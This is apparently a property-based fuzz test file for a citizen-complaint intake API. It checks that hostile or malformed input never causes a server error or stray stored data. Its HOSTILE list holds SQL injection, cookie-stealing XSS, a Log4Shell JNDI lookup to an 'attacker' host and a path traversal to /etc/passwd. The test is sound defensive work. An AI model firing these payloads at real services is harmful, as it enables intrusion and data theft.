import { readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { InProcessService } from '@minsheng/service-harness';
import { entities, migrations } from '../src/schema.js';
import { serviceDefinition } from '../src/service-definition.js';
import { complaintBody } from './support/complaints.js';
import { multipart } from './support/multipart.js';
import * as samples from './support/sample-files.js';

/**
 * Property-based bad input over every public endpoint: whatever arrives, the answer is never a
 * 5xx, a refused request stores nothing, and accepted text comes back exactly as it was sent
 * (escaping is the renderer's job, not the store's).
 */

const HOSTILE = [
  "' OR '1'='1' --",
  "'; DROP TABLE complaint; --",
  '1; SELECT pg_sleep(10)',
  '" UNION SELECT petitioner_id_number_encrypted FROM complaint --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://attacker/a}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u202Egnp.exe',
  '\uFEFF\u200B\u2028\u2029',
  '𠮷野家 👨‍👩‍👧 ﷽',
  'null',
  '__proto__',
  'constructor',
  '\\u0000',
];

const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.string({ unit: 'binary', maxLength: 100 }),
  fc.string({ minLength: 5_000, maxLength: 70_000 }),
);

/** Any JSON-ish value, including the hostile strings and wrong types. */
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue(), { maxKeys: 5 }),
);

const FIELDS = [
  'petitioner',
  'petitioner.name',
  'petitioner.idNumber',
  'petitioner.phone',
  'divisionCode',
  'kind',
  'categoryCode',
  'title',
  'content',
  'address',
  'location',
  'location.lat',
  'replyPublicConsent',
  'captchaId',
  'captchaAnswer',
  '__proto__',
  'constructor',
  'admin',
];

function withValueAt(body: Record<string, unknown>, path: string, value: unknown) {
  const copy = structuredClone(body) as Record<string, Record<string, unknown>>;
  const [head, tail] = path.split('.');
  if (!tail) {
    Object.defineProperty(copy, head, {
      value,
      enumerable: true,
      configurable: true,
      writable: true,
    });
  } else {
    copy[head] = {
      ...(typeof copy[head] === 'object' && copy[head] ? copy[head] : {}),
      [tail]: value,
    };
  }
  return copy;
}

describe('complaint intake: hostile input never breaks it', () => {
  let intake: InProcessService;
  let accepted = 0;
  const work = join(tmpdir(), `intake-fuzz-${process.pid}-${Date.now()}`);

  beforeAll(async () => {
    intake = await InProcessService.start(serviceDefinition, {
      entities,
      migrations,
      env: {
        RATE_LIMITS_ENABLED: 'false',
        BODY_LIMIT_BYTES: String(64 * 1024),
        ATTACHMENT_MAX_FILE_BYTES: String(16 * 1024),
        ATTACHMENT_MAX_TOTAL_BYTES: String(32 * 1024),
        ATTACHMENT_MAX_FILES: '2',
        ATTACHMENT_DIR: join(work, 'store'),
        ATTACHMENT_STAGING_DIR: join(work, 'staging'),
      },
    });
  });

  afterAll(async () => {
    await intake?.stop();
    await rm(work, { recursive: true, force: true });
  });

  const filesUnder = async (dir: string) =>
    (
      await readdir(join(work, dir), { recursive: true, withFileTypes: true }).catch(() => [])
    ).filter((e) => e.isFile()).length;

  const counts = async () => ({
    complaints: await intake.schema.count('complaint'),
    attachments: await intake.schema.count('complaint_attachment'),
    outbox: await intake.schema.count('outbox'),
    ratings: await intake.schema.count('complaint_rating'),
    reviews: await intake.schema.count('complaint_review_request'),
  });

  const post = (
    payload: string | Buffer,
    headers: Record<string, string>,
    url = '/api/v1/complaints',
  ) => intake.http.inject({ method: 'POST', url, headers, payload });
  const json = { 'content-type': 'application/json' };

  /** Sends; asserts no 5xx, and nothing stored when refused. Returns the response. */
  async function check(send: () => ReturnType<typeof post>) {
    const before = await counts();
    const response = await send();
    expect(response.statusCode).toBeLessThan(500);
    expect(response.statusCode).toBeGreaterThanOrEqual(200);
    expect(() => response.json()).not.toThrow();
    if (response.statusCode >= 400) {
      expect(response.json()).toMatchObject({
        code: expect.any(String),
        message: expect.any(String),
      });
      expect(await counts()).toEqual(before);
    } else {
      accepted++;
    }
    return response;
  }

  it('answers random JSON of any shape with a 4xx and stores nothing', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (value) => {
        const response = await check(() => post(JSON.stringify(value) ?? 'null', json));
        expect(response.statusCode).toBeGreaterThanOrEqual(400);
      }),
      { numRuns: 300 },
    );
  });

  it('answers a valid complaint with one field replaced by anything with a clean answer', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...FIELDS), anyValue, async (path, value) => {
        await check(() => post(JSON.stringify(withValueAt(complaintBody(), path, value)), json));
      }),
      { numRuns: 400 },
    );
  });

  it('stores accepted hostile text exactly as it was sent, and serves it back unchanged', async () => {
    const title = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 100 }),
      // Includes lone surrogates, which cannot be stored as UTF-8 and must be refused.
      fc.string({ unit: 'binary', minLength: 1, maxLength: 100 }),
    );
    const content = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 2_000 }),
    );
    await fc.assert(
      fc.asyncProperty(
        title,
        content,
        fc.option(title, { nil: undefined }),
        async (t, c, address) => {
          const body = complaintBody({
            title: t,
            content: c,
            ...(address === undefined ? {} : { address }),
          });
          const response = await check(() => post(JSON.stringify(body), json));
          if (response.statusCode !== 201) {
            // Only blank text, control characters or lone surrogates are refused.
            expect(response.json().fields.map((f: { path: string }) => f.path)).toEqual(
              expect.arrayContaining([expect.stringMatching(/^(title|content|address)$/)]),
            );
            return;
          }
          const { trackingCode, queryCode } = response.json();
          const [row] = await intake.schema.query<{
            title: string;
            content: string;
            address: string | null;
          }>('SELECT title, content, address FROM complaint WHERE tracking_code = $1', [
            trackingCode,
          ]);
          expect(row).toEqual({ title: t, content: c, address: address ?? null });
          const view = await intake.http.inject({
            method: 'GET',
            url: `/api/v1/complaints/${trackingCode}?queryCode=${queryCode}`,
          });
          expect(view.json().title).toBe(t);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('answers bytes that are not JSON, and JSON that is not UTF-8, with a 400 and stores nothing', async () => {
    const garbage = fc.uint8Array({ minLength: 0, maxLength: 2_000 }).map((b) => Buffer.from(b));
    // A valid complaint whose title holds bytes that are not valid UTF-8.
    const invalidUtf8Inside = fc.uint8Array({ minLength: 1, maxLength: 50 }).map((b) => {
      const [before, after] = JSON.stringify(complaintBody({ title: 'TITLE' })).split('TITLE');
      const bytes = Buffer.from(b).filter((x) => x !== 0x22 && x !== 0x5c && x >= 0x20);
      return Buffer.concat([
        Buffer.from(before),
        Buffer.from([0xc3, 0x28, 0xff]),
        bytes,
        Buffer.from(after),
      ]);
    });
    const before = await intake.schema.count('complaint');
    await fc.assert(
      fc.asyncProperty(invalidUtf8Inside, async (payload) => {
        const response = await check(() => post(payload, json));
        // Decoding would silently replace bytes with U+FFFD: what is kept must be what was sent.
        expect(response.statusCode).toBe(400);
        expect(response.json().code).toBe('MALFORMED_JSON');
      }),
      { numRuns: 150 },
    );
    await fc.assert(
      fc.asyncProperty(garbage, async (payload) => {
        const response = await check(() => post(payload, json));
        expect(response.statusCode).toBeGreaterThanOrEqual(400);
        expect(response.statusCode).toBeLessThan(500);
      }),
      { numRuns: 150 },
    );
    expect(await intake.schema.count('complaint')).toBe(before);
  });

  it('answers broken and hostile multipart forms without a 5xx, keeps only allowed files, and leaves no stray file', async () => {
    const fileName = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 300 }));
    const content = fc.oneof(
      fc.constantFrom(
        samples.png(),
        samples.elf(),
        samples.pdf(),
        samples.msi(),
        Buffer.alloc(20_000, 1),
      ),
      fc.uint8Array({ maxLength: 500 }).map((b) => Buffer.from(b)),
    );
    const complaintField = fc.oneof(
      fc.constant(JSON.stringify(complaintBody())),
      fc.jsonValue().map((v) => JSON.stringify(v) ?? ''),
      hostileText,
    );
    const form = fc.record({
      complaint: complaintField,
      files: fc.array(
        fc.record({
          name: fileName,
          content,
          field: fc.constantFrom('attachments', 'file', 'complaint'),
        }),
        {
          maxLength: 3,
        },
      ),
      truncate: fc.option(fc.nat(), { nil: undefined }),
    });
    await fc.assert(
      fc.asyncProperty(form, async ({ complaint, files, truncate }) => {
        const { payload, headers } = multipart([
          { name: 'complaint', value: complaint },
          ...files.map((f) => ({ name: f.field, filename: f.name, content: f.content })),
        ]);
        const body =
          truncate === undefined ? payload : payload.subarray(0, truncate % payload.length);
        const response = await check(() => post(body, headers));
        expect(await filesUnder('store')).toBe(await intake.schema.count('complaint_attachment'));
        expect(await filesUnder('staging')).toBe(0);
        if (response.statusCode === 201) {
          const { trackingCode, queryCode } = response.json();
          const view = await intake.http.inject({
            method: 'GET',
            url: `/api/v1/complaints/${trackingCode}?queryCode=${queryCode}`,
          });
          for (const attachment of view.json().attachments) {
            expect(attachment.contentType).toMatch(/^(image\/png|application\/pdf)$/);
          }
        }
      }),
      { numRuns: 300 },
    );
  });

  it('answers any tracking code, query code or attachment id with 400 or 404', async () => {
    const segment = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 100 }), fc.uuid());
    await fc.assert(
      fc.asyncProperty(
        segment,
        segment,
        segment,
        fc.boolean(),
        async (tracking, query, id, forAttachment) => {
          const url = forAttachment
            ? `/api/v1/complaints/${encodeURIComponent(tracking)}/attachments/${encodeURIComponent(id)}?queryCode=${encodeURIComponent(query)}`
            : `/api/v1/complaints/${encodeURIComponent(tracking)}?queryCode=${encodeURIComponent(query)}`;
          const response = await intake.http.inject({ method: 'GET', url });
          expect([400, 404]).toContain(response.statusCode);
        },
      ),
      { numRuns: 400 },
    );
  });

  it('answers hostile ratings and review requests with a 4xx and stores nothing', async () => {
    const { trackingCode, queryCode } = (await post(JSON.stringify(complaintBody()), json)).json();
    await intake.schema.query(
      "UPDATE complaint SET status = 'replied', replied_at = now() WHERE tracking_code = $1",
      [trackingCode],
    );
    const body = fc.oneof(
      fc.jsonValue(),
      fc.record({
        queryCode: fc.oneof(fc.constant(queryCode), anyValue),
        office: anyValue,
        organ: anyValue,
      }),
      fc.record({
        queryCode: fc.oneof(fc.constant(queryCode), anyValue),
        reason: anyValue,
        extra: anyValue,
      }),
    );
    await fc.assert(
      fc.asyncProperty(body, fc.constantFrom('rating', 'review-request'), async (value, action) => {
        const response = await check(() =>
          post(
            JSON.stringify(value) ?? 'null',
            json,
            `/api/v1/complaints/${trackingCode}/${action}`,
          ),
        );
        expect(response.statusCode).toBeGreaterThanOrEqual(400);
      }),
      { numRuns: 300 },
    );
  });

  it('accepted some valid requests along the way, so the properties were not vacuous', () => {
    expect(accepted).toBeGreaterThan(50);
  });
});
